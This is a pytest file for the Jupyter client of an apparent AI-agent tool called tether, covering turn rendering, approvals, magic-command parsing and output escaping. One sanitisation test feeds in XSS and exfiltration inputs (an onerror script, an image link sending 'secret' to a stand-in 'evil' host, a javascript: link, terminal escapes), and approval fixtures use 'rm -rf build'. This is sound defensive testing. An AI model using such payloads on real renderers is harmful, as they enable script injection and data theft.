"""The notebook client's pieces that need no kernel: folding a turn's events, drawing it
(escaped), and reading the magics' words."""

import ast
from pathlib import Path

import pytest

from tether.jupyter.actions import Problem
from tether.jupyter.commands import parse_cell, parse_line
from tether.jupyter.render import markdown_html, turn_bundle
from tether.jupyter.view import TurnView
from tether.protocol.events import (
    ApprovalRequest,
    ApprovalRequested,
    ApprovalResolved,
    InputQueued,
    ItemCompleted,
    ItemDelta,
    ItemStarted,
    TurnCompleted,
)
from tether.protocol.items import AgentMessage, ImageRef, ToolCall, UserMessage
from tether.protocol.session import (
    QueuedInput,
    SessionInfo,
    SessionSnapshot,
    TurnSnapshot,
)

ROOT = Path(__file__).resolve().parents[2]


def _view() -> TurnView:
    return TurnView(session_id="s", turn_id="t")


def _approval(approval_id: str = "a1") -> ApprovalRequest:
    return ApprovalRequest(
        id=approval_id,
        turn_id="t",
        item_id="c",
        tool="run_command",
        arguments="{}",
        kind="command",
        reason="commands ask first",
        command="rm -rf build",
        always_rule="run_command(rm -rf build)",
    )


def test_deltas_grow_an_item_and_its_completion_replaces_it() -> None:
    view = _view()
    view.apply(ItemStarted(turn_id="t", item=AgentMessage(id="m", text="He")))
    view.apply(ItemDelta(turn_id="t", item_id="m", delta="llo"))
    assert view.items["m"] == AgentMessage(id="m", text="Hello")
    view.apply(ItemCompleted(turn_id="t", item=AgentMessage(id="m", text="Hello!")))
    assert list(view.items.values()) == [AgentMessage(id="m", text="Hello!")]


def test_a_superseded_reply_is_dropped_and_other_turns_change_nothing() -> None:
    view = _view()
    view.apply(ItemStarted(turn_id="t", item=AgentMessage(id="m", text="partial")))
    view.apply(ItemCompleted(turn_id="t", item=AgentMessage(id="m", superseded=True)))
    assert not view.apply(ItemStarted(turn_id="other", item=AgentMessage(id="x", text="no")))
    assert view.items == {}


def test_an_approval_waits_until_it_is_resolved_and_says_who_answered() -> None:
    view = _view()
    view.apply(ApprovalRequested(approval=_approval()))
    assert list(view.pending) == ["a1"]
    assert "%tether approve a1" in turn_bundle(view)["text/plain"]
    view.apply(ApprovalResolved(approval_id="a1", turn_id="t", decision="deny", by="tether-cli"))
    assert view.pending == {}
    assert view.resolved == ["run_command denied by tether-cli"]


def test_queued_messages_show_until_they_join_and_the_end_clears_what_waits() -> None:
    info = SessionInfo(id="s", created_at=0, updated_at=0)
    turn = TurnSnapshot(id="t", status="running", started_at=0)
    snapshot = SessionSnapshot(
        session=info,
        epoch="e",
        seq=3,
        turns=[turn],
        pending_approvals=[_approval()],
        queued_inputs=[QueuedInput(input_id="q1", text="also this")],
    )
    view = TurnView.from_snapshot(snapshot, turn)
    view.apply(InputQueued(input_id="q2", text="and that"))
    assert list(view.queued.values()) == ["also this", "and that"]
    view.apply(ItemCompleted(turn_id="t", item=UserMessage(id="q1", text="also this")))
    assert list(view.queued) == ["q2"]
    view.apply(TurnCompleted(turn_id="t", status="cancelled", ended_at=1))
    assert (view.status, view.pending, view.queued) == ("cancelled", {}, {})


def test_what_the_model_writes_cannot_become_markup_or_fetch_anything() -> None:
    shown = markdown_html(
        "**bold** <img src=x onerror=alert(1)> ![t](http://evil/?q=secret)"
        " [l](javascript:alert(1)) `a<b` \x1b[2J \u202eevil"
    )
    assert "<strong>bold</strong>" in shown
    assert "<img" not in shown
    assert "&lt;img src=x" in shown
    assert 'href="javascript' not in shown
    assert "<code>a&lt;b</code>" in shown
    assert "\x1b" not in shown
    assert "\\x1b[2J" in shown
    assert "\u202e" not in shown


def test_tool_lines_and_approvals_are_escaped_in_html_and_text() -> None:
    view = _view()
    call = ToolCall(
        id="c",
        call_id="c",
        tool="run_command",
        arguments='{"command": "echo <script>\\u001b[31m"}',
        status="completed",
        exit_code=0,
    )
    view.apply(ItemCompleted(turn_id="t", item=call))
    view.apply(ApprovalRequested(approval=_approval()))
    bundle = turn_bundle(view)
    assert "<script>" not in bundle["text/html"]
    assert "&lt;script&gt;" in bundle["text/html"]
    assert "\x1b" not in bundle["text/html"] + bundle["text/plain"]
    assert "✓ run_command(command='echo <script>\\x1b[31m') exit 0" in bundle["text/plain"]


def test_the_magics_read_their_words_and_refuse_bad_ones_with_the_usage() -> None:
    assert parse_line("").command == "help"
    approve = parse_line("approve --always a1")
    assert (approve.command, approve.target, approve.always) == ("approve", "a1", True)
    deny = parse_line("deny --message 'not now' a1")
    assert (deny.command, deny.target, deny.message) == ("deny", "a1", "not now")
    assert parse_cell("--mode auto --session s_1").mode == "auto"
    for bad in ("frobnicate", "attach a b"):
        with pytest.raises(Problem, match="%tether attach"):
            parse_line(bad)
    with pytest.raises(Problem, match="No closing quotation"):
        parse_line("deny 'unclosed")
    with pytest.raises(Problem, match="invalid choice"):
        parse_cell("--mode yolo")
    with pytest.raises(Problem, match="exclude each other"):
        parse_cell("--new --session s_1")


def test_the_notebook_client_brings_no_async_framework_and_no_daemon() -> None:
    for path in (ROOT / "clients" / "jupyter").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            for name in names:
                top = name.split(".")[0]
                assert top not in {"trio", "anyio", "httpx", "rich"}, f"{path} imports {name}"
                assert not name.startswith("tether.daemon"), f"{path} imports {name}"


def test_an_image_of_a_message_is_one_line_in_text_and_html() -> None:
    view = _view()
    image = ImageRef(
        name="<shot>.png",
        mime_type="image/png",
        size=215_040,
        sha256="0" * 64,
        width=1280,
        height=720,
        original_size=3_145_728,
        original_width=2560,
        original_height=1440,
    )
    view.apply(ItemCompleted(turn_id="t", item=UserMessage(id="u", text="see", images=[image])))
    bundle = turn_bundle(view)
    line = "[image <shot>.png 1280\N{MULTIPLICATION SIGN}720, 210 KB, downscaled from"
    assert f"{line} 2560\N{MULTIPLICATION SIGN}1440 3.0 MB]" in bundle["text/plain"]
    assert "[image &lt;shot&gt;.png 1280" in bundle["text/html"]
